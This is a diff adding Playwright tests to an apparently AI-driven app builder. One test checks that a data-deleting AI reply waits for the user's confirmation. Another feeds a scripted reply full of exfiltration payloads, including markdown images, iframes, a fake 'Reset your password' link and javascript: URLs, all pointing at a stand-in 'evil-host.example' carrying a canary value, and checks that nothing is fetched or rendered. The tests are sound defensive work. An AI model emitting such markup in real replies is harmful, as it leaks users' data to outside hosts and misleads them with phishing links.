@@ -195,3 +195,55 @@ describe('a restart of the server', () => {
       await tab.getByText('Shore').first().waitFor()
     }))
 })
+
+describe('what a reply may not do by itself', () => {
+  it('R05: rows are lost only when the builder presses Confirm', () =>
+    withBuilder(async (ada) => {
+      const appId = await ada.makeApp({ text: NOTES_APP })
+      await ada.call(`/live_api/apps/${appId}/entities/Note`, { json: { text: 'Mine' } })
+      const tab = await ada.openEditor(appId)
+      const drop = `${action('delete_file', 'entities/Note.json', '')}${addFile('pages/Home.jsx', headed('No notes'))}`
+      await product.script({ text: drop })
+      await sayInChat(tab, 'Remove the notes')
+      const card = tab.getByRole('region', { name: 'Needs your confirmation' })
+      await card.getByText('The entity Note would be removed, with 2 rows out of reach of the app.').waitFor()
+      const before = await ada.app(appId)
+      if (process.env.SCREENSHOTS) {
+        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-wide.png` })
+        await tab.setViewportSize({ width: 390, height: 844 })
+        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-phone.png` })
+        await tab.setViewportSize({ width: 1440, height: 900 })
+        await tab.emulateMedia({ colorScheme: 'dark' })
+        await tab.screenshot({ path: `${process.env.SCREENSHOTS}/confirm-dark.png` })
+      }
+      await card.getByRole('button', { name: 'Dismiss' }).click()
+      await tab.getByText('You dismissed this. Nothing was changed.').waitFor()
+      expect((await ada.app(appId)).latestVersionId).toBe(before.latestVersionId)
+      await sayInChat(tab, 'Remove the notes, really')
+      await card.getByRole('button', { name: 'Confirm' }).click()
+      await tab.getByText('You confirmed this.').waitFor()
+      expect((await ada.app(appId)).latestVersionId).not.toBe(before.latestVersionId)
+      await heading(tab, 'No notes').waitFor()
+    }))
+
+  it('R03: nothing in its words leaves for another host without a click that shows where to', () =>
+    withBuilder(async (ada) => {
+      const appId = await ada.makeApp()
+      const tab = await ada.openEditor(appId)
+      const asked: string[] = []
+      tab.on('request', (request) => asked.push(request.url()))
+      const leak = 'https://evil-host.example/?d=CNRY'
+      const text = `![a](${leak}) ![b][r] [Reset your password](${leak}) <img src="${leak}"> <iframe src="${leak}"></iframe> <${leak}>\n\n[x](javascript:alert(1)) [y](data:text/html,z)\n\n[r]: ${leak}\n\nThe end.`
+      await product.script({ text })
+      await sayInChat(tab, 'Summarise the rows')
+      const reply = repliesOn(tab).last()
+      await reply.getByText('The end.').waitFor()
+      expect(await reply.locator('img, iframe, link, script, video, object').count()).toBe(0)
+      for (const link of await reply.getByRole('link').all()) {
+        expect(await link.getAttribute('href')).toMatch(/^https:/)
+        expect(await link.textContent()).toContain('evil-host.example')
+        expect(await link.getAttribute('rel')).toContain('noopener')
+      }
+      expect(asked.filter((url) => url.includes('evil-host'))).toEqual([])
+    }))
+})
